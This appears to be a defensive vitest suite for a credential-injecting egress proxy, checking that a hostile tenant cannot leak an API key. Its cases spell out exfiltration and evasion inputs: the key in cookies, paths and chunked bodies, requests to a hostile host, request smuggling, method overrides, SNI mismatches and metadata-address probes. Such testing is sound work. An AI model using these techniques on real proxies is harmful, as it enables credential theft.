/**
 * ATTACKS 9, 10, 13 with everything real: what a hostile server can do with its own connections. Nothing but the
 * declared request brings the key to an upstream; the rest is refused in words, and on record.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  API,
  attackerManifest,
  HOSTILE,
  KEY,
  openWorld,
  type World,
  type CellRequire,
} from './whole-world.ts';

interface Wanted {
  /** Address or name to connect to. */
  readonly to: string;
  readonly port?: number;
  /** TLS server name; null for none, absent for `to`. */
  readonly sni?: string | null;
  readonly alpn?: readonly string[];
  /** `{K}` is the placeholder; `{B}` Basic credentials with it as password. */
  readonly bytes: string;
}

/** Sends bytes over TLS and gives all that comes back, as text. Runs in the cell. */
function speak({ to, port = 443, sni = to, alpn, bytes }: Wanted, require: CellRequire): Promise<string> {
  const tls = require('node:tls');
  const placeholder = process.env['API_KEY'] ?? '';
  const text = bytes
    .replaceAll('{K}', placeholder)
    .replaceAll('{B}', Buffer.from(`user:${placeholder}`).toString('base64'))
    .replaceAll('{%}', Buffer.from(placeholder).toString('hex').replaceAll(/../g, '%$&'))
    .replaceAll('{UPPER}', placeholder.toUpperCase());
  return new Promise((done) => {
    const socket = tls.connect({
      host: to,
      port,
      ...(sni === null ? {} : { servername: sni }),
      ...(alpn === undefined ? {} : { ALPNProtocols: [...alpn] }),
      checkServerIdentity: () => undefined,
    });
    let answer = '';
    socket.on('data', (piece: Buffer) => (answer += piece.toString('latin1')));
    socket.on('error', (error: NodeJS.ErrnoException) => done(`error ${error.code}`));
    socket.on('close', () => done(answer));
    socket.setTimeout(30_000, () => socket.destroy());
    socket.write(text, 'latin1');
  });
}

const get = (fields = '', target = '/v1/x', host = API): string =>
  `GET ${target} HTTP/1.1\r\nHost: ${host}\r\n${fields}Connection: close\r\n\r\n`;
const send = (type: string, body: string, fields = ''): string =>
  `POST /v1/x HTTP/1.1\r\nHost: ${API}\r\nContent-Type: ${type}\r\n${fields}Content-Length: {L}\r\nConnection: close\r\n\r\n${body}`;
const FORM = 'application/x-www-form-urlencoded';
const AUTH = 'Authorization: Bearer {K}\r\n';

/** A name's address in the cell. Runs there. */
async function addressOf(name: string, require: CellRequire): Promise<string> {
  const dns = require('node:dns/promises');
  return (await dns.lookup(name, { family: 4 })).address;
}

describe('ATTACKS 9, 10, 13: requests of a hostile server', () => {
  let world: World;
  let placeholder = '';
  beforeAll(async () => {
    world = await openWorld({
      manifest: ({ folder }) => ({
        egress: [{ host: API, methods: ['GET', 'POST'], paths: ['/v1'] }, { host: HOSTILE }],
        credentials: (attackerManifest(folder)['credentials'] as object[]).map((one) => ({
          ...one,
          methods: ['GET', 'POST'],
        })),
      }),
    });
    world.answer = (_seen, socket) => void socket.write('HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok');
    placeholder = await world.inCell(() => process.env['API_KEY'] ?? '', null);
  });
  afterAll(() => world.close());

  /** The length of a body is known only where the placeholder is. */
  const speakInCell = (wanted: Wanted): Promise<string> => {
    const [head = '', body = ''] = wanted.bytes.split('{L}');
    const placeholderChars = 36;
    const rest = body.slice(body.indexOf('\r\n\r\n') + 4);
    const length = Buffer.byteLength(rest.replaceAll('{K}', 'x'.repeat(placeholderChars)), 'latin1');
    const bytes = wanted.bytes.includes('{L}') ? `${head}${length}${body}` : wanted.bytes;
    return world.inCell(speak, { ...wanted, bytes });
  };
  const arrivedWithKey = (): number =>
    world.arrived.filter(
      ({ head, body }) => `${head}\r\n${body}`.includes(KEY) || head.includes(btoa(`user:${KEY}`)),
    ).length;

  it.each([
    ['a header', { to: API, bytes: get(AUTH) }],
    ['a header in another case', { to: API, bytes: get('aUTHORIZATION:\tBearer {K} \r\n') }],
    ['Basic', { to: API, bytes: get('Authorization: Basic {B}\r\n') }],
    ['the query', { to: API, bytes: get('', '/v1/x?a=1&api_key={K}') }],
    ['JSON', { to: API, bytes: send('application/json', '{"api_key":"{K}"}') }],
    ['an upper-case server name with a dot', { to: API, sni: 'API.test.EXAMPLE.', bytes: get(AUTH) }],
    [
      'an upper-case Host with a port and a dot',
      { to: API, bytes: get(AUTH, '/v1/x', 'Api.Test.Example.:443') },
    ],
    ['a request that names its own method', { to: API, bytes: send(FORM, '_method=post', AUTH) }],
    ['an absolute target', { to: API, bytes: get(AUTH, `https://${API}/v1/x`) }],
  ] satisfies [string, Wanted][])('control: as declared in %s, the key arrives', async (_name, wanted) => {
    const before = arrivedWithKey();
    expect(await speakInCell(wanted)).toMatch(/^HTTP\/1\.1 200 /);
    expect(arrivedWithKey()).toBe(before + 1);
  });

  it.each([
    ['the host that is only listed', { to: HOSTILE, bytes: get(AUTH, '/v1/x', HOSTILE) }, 403],
    ['a cookie', { to: API, bytes: get('Cookie: a={K}\r\n') }, 403],
    ['a referer', { to: API, bytes: get('Referer: https://x.example/?{K}\r\n') }, 403],
    ['a longer value', { to: API, bytes: get('Authorization: Bearer {K} x\r\n') }, 403],
    ['another scheme', { to: API, bytes: get('Authorization: token {K}\r\n') }, 403],
    ['the same header twice', { to: API, bytes: get(`${AUTH}${AUTH}`) }, 403],
    ['the user of Basic', { to: API, bytes: get('Authorization: Basic {BU}\r\n') }, 403],
    ['a segment of the path', { to: API, bytes: get('', '/v1/{K}') }, 403],
    ['a segment of the path, escaped', { to: API, bytes: get('', '/v1/{%}') }, 403],
    ['another parameter', { to: API, bytes: get('', '/v1/x?q={K}') }, 403],
    ['a parameter given twice', { to: API, bytes: get('', '/v1/x?api_key={K}&api%5Fkey=y') }, 403],
    ['a parameter with more in it', { to: API, bytes: get('', '/v1/x?api_key={K};x=1') }, 403],
    ['a fragment', { to: API, bytes: get('', '/v1/x#{K}') }, 400],
    ['user information', { to: API, bytes: get('', `https://{K}@${API}/v1/x`) }, 400],
    [
      'JSON, where it is not declared',
      { to: API, bytes: send('application/json', '{"a":{"api_key":"{K}"}}') },
      403,
    ],
    [
      'JSON, given twice',
      { to: API, bytes: send('application/json', '{"api_key":"{K}","api_key":""}') },
      403,
    ],
    [
      'JSON, as a prototype',
      { to: API, bytes: send('application/json', '{"__proto__":{"api_key":"{K}"}}') },
      403,
    ],
    ['text', { to: API, bytes: send('text/plain', 'Dear attacker: {K}') }, 403],
    [
      'two pieces of a body',
      {
        to: API,
        bytes: `POST /v1/x HTTP/1.1\r\nHost: ${API}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n4\r\nkey_\r\n25\r\n{TAIL}!!!!!\r\n0\r\n\r\n`,
      },
      403,
    ],
    [
      'a trailer',
      {
        to: API,
        bytes: `POST /v1/x HTTP/1.1\r\nHost: ${API}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\nX-T: {K}\r\n\r\n`,
      },
      403,
    ],
    ['another path', { to: API, bytes: get(AUTH, '/v2/x') }, 403],
    ['a path that climbs', { to: API, bytes: get(AUTH, '/v1/%2e%2e/v2') }, 400],
    [
      'another method',
      { to: API, bytes: `DELETE /v1/x HTTP/1.1\r\nHost: ${API}\r\n${AUTH}Connection: close\r\n\r\n` },
      403,
    ],
    ['another method in a header', { to: API, bytes: get(`${AUTH}X-HTTP-Method-Override: delete\r\n`) }, 403],
    ['another method in an older header', { to: API, bytes: get(`${AUTH}X-HTTP-Method: DELETE\r\n`) }, 403],
    ['another method in a form', { to: API, bytes: send(FORM, '_method=DELETE', AUTH) }, 403],
    ['another method in JSON', { to: API, bytes: send('application/json', '{"_method":"PUT"}', AUTH) }, 403],
    ['another path in a header', { to: API, bytes: get(`${AUTH}X-Original-URL: /v2/x\r\n`) }, 400],
    ['a Host of its own', { to: API, bytes: get(AUTH, '/v1/x', HOSTILE) }, 403],
    ['two Hosts', { to: API, bytes: get(`Host: ${HOSTILE}\r\n${AUTH}`) }, 400],
    ['an absolute target elsewhere', { to: API, bytes: get(AUTH, `https://${HOSTILE}/`) }, 403],
    ['another port in Host', { to: API, bytes: get(AUTH, '/v1/x', `${API}:80`) }, 403],
    [
      'CONNECT',
      {
        to: API,
        bytes: `CONNECT ${HOSTILE}:443 HTTP/1.1\r\nHost: ${API}\r\n${AUTH}Connection: close\r\n\r\n`,
      },
      400,
    ],
    ['an upgrade', { to: API, bytes: get(`${AUTH}Upgrade: tls/1.0\r\nConnection: Upgrade\r\n`) }, 501],
    [
      'half a handshake',
      { to: API, bytes: get(`${AUTH}Upgrade: websocket\r\nConnection: Upgrade\r\n`) },
      400,
    ],
    ['HTTP/2 without asking', { to: API, bytes: 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' }, 400],
    [
      'two lengths',
      {
        to: API,
        bytes: `POST /v1/x HTTP/1.1\r\nHost: ${API}\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v2 HTTP/1.1\r\n`,
      },
      400,
    ],
    ['a continued header', { to: API, bytes: get('Authorization: Bearer\r\n {K}\r\n') }, 400],
  ] satisfies [string, Wanted, number][])('not in %s', async (_name, wanted, status) => {
    const before = arrivedWithKey();
    const bytes = wanted.bytes
      .replace('{BU}', btoa(`${placeholder}:x`))
      .replace('{TAIL}', placeholder.slice(4));
    const answer = await speakInCell({ ...wanted, bytes });
    expect(answer).toMatch(new RegExp(`^HTTP/1\\.1 ${status} `));
    const said = JSON.parse(answer.slice(answer.indexOf('\r\n\r\n') + 4)) as {
      error: { code: string; hint: string };
    };
    expect(said.error.hint).not.toBe('');
    expect(arrivedWithKey()).toBe(before);
    for (const { head, body } of world.arrived) expect(head + body).not.toContain(placeholder);
    /* Of refusals of one kind only the first is written down. */
    await world.event(({ type, data }) => type.endsWith('.refused') && data['code'] === said.error.code);
  });

  it('sends what an encoding hides as the text that it is', async () => {
    const before = arrivedWithKey();
    for (const bytes of [
      get('Authorization: Bearer {UPPER}\r\n'),
      get('Authorization: Bearer {%}\r\n'),
      get('Authorization: Bearer {K1}\r\nX-Rest: {K2}\r\n'),
    ]) {
      await speakInCell({
        to: API,
        bytes: bytes.replace('{K1}', placeholder.slice(0, 18)).replace('{K2}', placeholder.slice(18)),
      });
    }
    expect(arrivedWithKey()).toBe(before);
  });

  it('answers the second request of a connection by its own Host', async () => {
    const before = world.arrived.length;
    const answer = await speakInCell({
      to: API,
      bytes: `GET /v1/x HTTP/1.1\r\nHost: ${API}\r\n\r\n${get(AUTH, '/v1/x', HOSTILE)}`,
    });
    expect(answer).toMatch(/^HTTP\/1\.1 200 [^]*HTTP\/1\.1 403 [^]*egress_name_mismatch/);
    expect(world.arrived.slice(before).map(({ host }) => host)).toEqual([API]);
  });

  it('lets no connection through whose names do not agree', async () => {
    const hostile = await world.inCell(addressOf, HOSTILE);
    const api = await world.inCell(addressOf, API);
    const before = world.arrived.length;
    for (const wanted of [
      { to: hostile, sni: API, bytes: get(AUTH) },
      { to: api, sni: HOSTILE, bytes: get(AUTH) },
      { to: api, sni: null, bytes: get(AUTH) },
      { to: '1.1.1.1', sni: API, bytes: get(AUTH) },
      { to: '2606:4700:4700::1111', sni: API, bytes: get(AUTH) },
      { to: '::ffff:1.1.1.1', sni: API, bytes: get(AUTH) },
      { to: '169.254.169.254', sni: null, bytes: get(AUTH) },
      { to: api, sni: 'other.example', bytes: get(AUTH) },
    ]) {
      expect(await speakInCell(wanted), JSON.stringify(wanted)).toMatch(
        /^(error (?:EPROTO|ERR_SSL_\w+|ECONNRESET)|$)/,
      );
    }
    expect(world.arrived.length).toBe(before);
    await world.event(({ data }) => data['address'] === '::ffff:1.1.1.1');
    await world.event(({ data }) => data['address'] === '::ffff:169.254.169.254');
    await world.event(({ data }) => data['code'] === 'egress_name_mismatch');
    expect(await speakInCell({ to: api, sni: API, bytes: get(AUTH) }), 'the control').toMatch(
      /^HTTP\/1\.1 200 /,
    );
  });

  it('speaks what was agreed on: HTTP/1.1 on a connection for HTTP/2 is no request', async () => {
    expect(await speakInCell({ to: API, alpn: ['http/1.1'], bytes: get(AUTH) })).toMatch(/^HTTP\/1\.1 200 /);
    expect(await speakInCell({ to: API, alpn: ['h2'], bytes: get(AUTH) })).not.toContain('HTTP/1.1');
    expect(await speakInCell({ to: API, alpn: ['spdy/3'], bytes: get(AUTH) })).toMatch(
      /^error (?:EPROTO|ERR_SSL_\w+)/,
    );
  });

  it('has all of it in an audit log that verifies and shows no key', async () => {
    const text = await world.exported();
    expect(text).toContain('egress_placeholder_misplaced');
    expect(text).not.toContain(KEY);
    expect(world.log()).not.toContain(KEY);
  });
});
